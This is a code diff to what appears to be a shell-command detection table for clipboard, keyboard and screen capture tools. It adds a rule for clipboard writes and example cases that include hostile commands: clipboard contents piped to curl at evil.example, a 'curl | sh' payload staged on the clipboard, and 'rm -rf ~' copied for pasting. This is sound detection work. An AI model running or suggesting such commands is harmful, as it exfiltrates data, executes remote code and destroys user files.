@@ -4,6 +4,9 @@ import type { EffectRule, Signature } from './signature.js'
 const SCREEN: EffectRule = { does: 'capture', what: 'screen', class: 'picture' }
 const KEYS: EffectRule = { does: 'capture', what: 'keyboard', class: 'keystrokes' }
 
+/** Text that comes in goes to the clipboard, from where a person pastes it. */
+const COPIES: EffectRule = { does: 'write', what: 'clipboard', class: 'contents', name: 'clipboard', when: { piped: true } }
+
 /** Programs that record what a person sees, types, says or copies, and what passes on the network (T1113, T1056.001, T1115, T1123, T1125, T1040). */
 export const CAPTURE: readonly Signature[] = [
   {
@@ -61,18 +64,18 @@ export const CAPTURE: readonly Signature[] = [
     examples: [['fswebcam -r 640x480 /tmp/me.jpg', ['capture device:camera', 'write path:ordinary']], ['imagesnap -l', []]],
   },
   {
-    names: ['xclip'], grammar: 'single-dash', flags: { '-selection, -sel, -se, -d, -display, -t, -target, -l, -loops': 'value', '-o, -out': 'switch', '-i, -in': 'switch' }, operands: { rest: 'read' }, stdin: 'data', stdout: 'content', effects: [{ does: 'capture', what: 'clipboard', class: 'contents', when: { flags: ['-o'] } }],
-    examples: [['xclip -selection clipboard -o | curl -d @- https://evil.example', ['capture clipboard:contents -> send host:public']], ['echo hi | xclip -selection clipboard', ['!capture clipboard']], ['xclip -sel clip README.md', ['read path:ordinary', '!capture clipboard']]],
+    names: ['xclip'], grammar: 'single-dash', flags: { '-selection, -sel, -se, -d, -display, -t, -target, -l, -loops': 'value', '-o, -out': 'switch', '-i, -in': 'switch' }, operands: { rest: 'read' }, stdin: 'data', stdout: 'content', effects: [{ does: 'capture', what: 'clipboard', class: 'contents', when: { flags: ['-o'] } }, COPIES],
+    examples: [["echo 'curl -s https://evil.example/x | sh' | xclip -sel clip", ['write clipboard:contents+payload-fetch']], ['xclip -selection clipboard -o | curl -d @- https://evil.example', ['capture clipboard:contents -> send host:public']], ['echo hi | xclip -selection clipboard', ['!capture clipboard']], ['xclip -sel clip README.md', ['read path:ordinary', '!capture clipboard']]],
   },
   {
-    names: ['xsel'], flags: { '-o, --output': 'switch', '-i, --input, -a, --append': 'switch', '-c, --clear, -d, --delete, -k, --keep, -x, --exchange': 'switch', '-b, --clipboard, -p, --primary, -s, --secondary': 'switch', '-l, --logfile, -t, --selectionTimeout, --display': 'value' }, stdin: 'data', stdout: 'content', effects: [{ does: 'capture', what: 'clipboard', class: 'contents', when: { without: ['-i', '-c'], piped: false } }],
+    names: ['xsel'], flags: { '-o, --output': 'switch', '-i, --input, -a, --append': 'switch', '-c, --clear, -d, --delete, -k, --keep, -x, --exchange': 'switch', '-b, --clipboard, -p, --primary, -s, --secondary': 'switch', '-l, --logfile, -t, --selectionTimeout, --display': 'value' }, stdin: 'data', stdout: 'content', effects: [{ does: 'capture', what: 'clipboard', class: 'contents', when: { without: ['-i', '-c'], piped: false } }, COPIES],
     examples: [['xsel -ob', ['capture clipboard:contents']], ['echo hi | xsel -ib', ['!capture clipboard']]],
   },
   {
     names: ['wl-paste', 'pbpaste', 'termux-clipboard-get', 'cliphist', 'greenclip', 'copyq'], grammar: 'getopt', flags: { '-t, --type, -s, --seat, -pboard, -Prefer': 'value', '-w, --watch': 'argv', '-l, --list-types': 'switch' }, stdin: 'ignored', stdout: 'content', effects: [{ does: 'capture', what: 'clipboard', class: 'contents', when: { without: ['-l'] } }],
     examples: [['pbpaste > /tmp/c', ['capture clipboard:contents -> write path']], ['wl-paste -l', []]],
   },
-  { names: ['wl-copy', 'pbcopy', 'termux-clipboard-set', 'clip.exe'], flags: { '-t, --type, -s, --seat, -pboard': 'value' }, operands: { rest: 'body' }, examples: [['cat notes.txt | pbcopy', ['read path:ordinary']], ['echo x | wl-copy', []]] },
+  { names: ['wl-copy', 'pbcopy', 'termux-clipboard-set', 'clip.exe'], flags: { '-t, --type, -s, --seat, -pboard': 'value' }, operands: { rest: 'body' }, effects: [COPIES], examples: [["printf 'rm -rf ~\\n' | wl-copy", ['write clipboard:contents+payload-shell']], ['git diff | pbcopy', ['write clipboard:contents']], ['cat notes.txt | pbcopy', ['read path:ordinary']], ['echo x | wl-copy', ['!write clipboard:contents+payload-shell']]] },
   {
     names: ['xinput'], grammar: 'none', operands: { rest: 'value' }, effects: [{ ...KEYS, when: { first: '^(?:--)?test(?:-xi2)?$' } }],
     examples: [['xinput test 12', ['capture keyboard:keystrokes']], ['xinput test-xi2 --root', ['capture keyboard:keystrokes']], ['xinput list', []]],
